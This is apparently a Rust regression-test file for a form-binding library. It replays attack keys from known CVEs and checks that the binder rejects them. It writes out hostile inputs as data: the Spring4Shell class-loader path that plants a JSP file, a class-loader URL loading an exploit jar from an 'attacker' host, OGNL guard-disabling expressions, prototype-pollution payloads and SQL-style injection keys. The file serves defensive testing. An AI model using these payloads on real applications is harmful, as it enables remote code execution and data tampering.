//! Keys that other binders evaluate, fold, trim or follow as paths.

use super::{form, is_unknown, is_valid, json};
use forms::Form;

/// The bean of a greeting page.
#[derive(Form, Debug, Clone, PartialEq)]
#[form(fields = all)]
pub(crate) struct Greeting {
    pub id: u32,
    #[form(max_length = 200)]
    pub content: String,
}

const GREETING: (&str, &str) = ("id=1&content=hello", r#""id":1,"content":"hello""#);

/// Spring4Shell: a path of properties led from the bean to the class loader, and made it write a program as a log file.
#[test]
fn cve_2022_22965_spring4shell() {
    is_valid::<Greeting>(GREETING);
    for (key, value) in [
        ("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\""),
        ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
        ("class.module.classLoader.DefaultAssertionStatus", "true"),
    ] {
        is_unknown::<Greeting>(GREETING, key, value);
    }
    let said = json::<Greeting>(r#"{"id":1,"content":"hello","class":{"module":{"classLoader":{}}}}"#);
    assert_eq!(said, "?class:unknown");
}

/// The same path twelve years before, through `class.classLoader`.
#[test]
fn cve_2010_1622_spring_class_loader() {
    is_unknown::<Greeting>(GREETING, "class.classLoader.URLs[0]", "jar:http://attacker/spring-exploit.jar!/");
    assert_eq!(form::<Greeting>("id=1&content=hello&content.class.name=x"), "?content.class.name:unknown");
}

/// Spring: `disallowedFields` was case-sensitive, the binder was not.
#[test]
fn cve_2022_22968_spring_disallowed_fields_case() {
    for key in ["Id", "ID", "iD", "Content", "CONTENT", "Class.module", "CLASS"] {
        is_unknown::<Greeting>(GREETING, key, "2");
    }
}

/// The fix folded case in the locale of the machine: in a Turkish one, `I` does not become `i`.
#[test]
fn cve_2024_38820_spring_locale_case() {
    for key in ["\u{130}d", "\u{131}d", "I\u{307}d", "\u{212a}", "\u{17f}", "\u{ff49}\u{ff44}"] {
        is_unknown::<Greeting>(GREETING, key, "2");
    }
}

/// Struts: parameter names were expressions, and reached `class`.
#[test]
fn cve_2014_0094_struts_class_loader() {
    is_unknown::<Greeting>(GREETING, "class['classLoader'].resources.dirContext.docBase", "x");
    is_unknown::<Greeting>(GREETING, "class.classLoader.resources.dirContext.docBase", "x");
    is_unknown::<Greeting>(GREETING, "top['class'].classLoader", "x");
}

/// Struts: the same attack worked with cookies, which were read as parameters.
#[test]
fn cve_2014_0116_struts_cookies() {
    // a form is bound to one body and nothing else: of the other parts of a request, only the content type is
    // read, and its parameters never become fields
    let body = forms::Body::new("application/x-www-form-urlencoded; content=stolen; charset=utf-8", "id=1");
    assert_eq!(tests::report::report(Greeting::bind(&body).errors()), "content:required");
}

/// Struts: names in OGNL, with the `#` escaped.
#[test]
fn cve_2010_1870_struts_ognl() {
    for key in [
        r"('\u0023_memberAccess[\'allowStaticMethodAccess\']')(meh)",
        r#"(aaa)(('\u0023context[\'xwork.MethodAccessor.denyMethodExecution\']\u003d\u0023foo')(\u0023foo\u003dnew%20java.lang.Boolean("false")))"#,
        "(#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false)",
        "%{#a=1}",
        "redirect:${1+1}",
        "action:x",
    ] {
        is_unknown::<Greeting>(GREETING, key, "true");
    }
}

/// Graphiti: relationship names in the body were called as methods.
#[test]
fn cve_2026_33286_graphiti_relationship_names() {
    for key in ["destroy", "delete_all", "instance_eval", "relationships", "drop", "finish", "apply"] {
        is_unknown::<Greeting>(GREETING, key, "x");
    }
    let said = json::<Greeting>(r#"{"id":1,"content":"hello","relationships":{"destroy":{"data":null}}}"#);
    assert_eq!(said, "?relationships:unknown");
}

/// Vault, reading AWS requests in Go: keys were folded, the last of two won, and the rest was not checked.
#[test]
fn cve_2020_16250_go_json_case_and_duplicates() {
    #[derive(Form, Debug, Clone, PartialEq)]
    #[form(fields = all)]
    struct Request {
        action: String,
    }
    assert_eq!(json::<Request>(r#"{"action":"read"}"#), "");
    assert_eq!(json::<Request>(r#"{"action":"read","AcTiOn":"write"}"#), "?AcTiOn:unknown");
    assert_eq!(json::<Request>(r#"{"action":"read","action":"write"}"#), "action:duplicate");
    assert_eq!(json::<Request>(r#"{"action":"read"}{"action":"write"}"#), ":malformed");
    assert_eq!(form::<Request>("action=read&ACTION=write"), "?ACTION:unknown");
}

/// lodash: `__proto__` and `constructor.prototype` in a body changed every object in the program.
#[test]
fn cve_2019_10744_lodash_prototype_pollution() {
    is_unknown::<Greeting>(GREETING, "constructor", "x");
    let said = json::<Greeting>(
        r#"{"id":1,"content":"hello","constructor":{"prototype":{"isAdmin":true}},"__proto__":{"isAdmin":true}}"#,
    );
    assert_eq!(said, "?__proto__:unknown ?constructor:unknown");
}

/// qs: `__proto__` in a query also made every later check hang.
#[test]
fn cve_2022_24999_qs_prototype_poisoning() {
    for key in
        ["__proto__", "a[__proto__]", "a[__proto__]&a[__proto__]&a[length]", "constructor[prototype][x]"]
    {
        is_unknown::<Greeting>(GREETING, key, "100000000");
    }
    let said = form::<Greeting>("id=1&content=hello&a[__proto__]=b&a[__proto__]=&a[length]=100000000");
    assert!(said.contains("?a[length]:unknown"), "{said}");
}

/// mongoose: the pollution came through the body of an update; our reports have such keys only as values, never as keys.
#[test]
fn cve_2023_3696_mongoose_prototype_pollution() {
    let body = forms::Body::json(
        r#"{"id":1,"content":"hello","__proto__":{"polluted":1},"$rename":{"a":"__proto__.x"}}"#,
    );
    let form = Greeting::bind(&body);
    for shape in [
        serde_json::to_value(form.errors().by_field()).unwrap(),
        serde_json::to_value(form.errors().nested()).unwrap(),
        serde_json::to_value(form.errors().to_problem_details()).unwrap(),
    ] {
        let text = shape.to_string();
        assert!(!text.contains("\"__proto__\":") && !text.contains("\"$rename\":"), "{text}");
        assert!(text.contains("__proto__"), "{text}");
    }
}

/// Django: keys of a user's dictionary were used as names of columns and operators.
#[test]
fn cve_2025_64459_django_connector_keys() {
    for key in ["_connector", "_negated", "id__gt", "content__regex", "pk", "id)--", "content) OR 1=1 OR (x"]
    {
        is_unknown::<Greeting>(GREETING, key, "OR 1=1 OR");
    }
}

/// Django: `dictsort` followed the path that the body named, even to private attributes.
#[test]
fn cve_2021_45116_django_dictsort() {
    for key in ["content.__class__", "content.0", "__init__.__globals__", "id.real", "0"] {
        is_unknown::<Greeting>(GREETING, key, "x");
    }
}

/// Rails: `_method` in a body changes the method of the request. Here it is an ordinary key.
#[test]
fn rails_method_override_is_an_unknown_key() {
    for key in ["_method", "_METHOD", "X-HTTP-Method-Override", "utf8", "authenticity_token"] {
        is_unknown::<Greeting>(GREETING, key, "DELETE");
    }
}
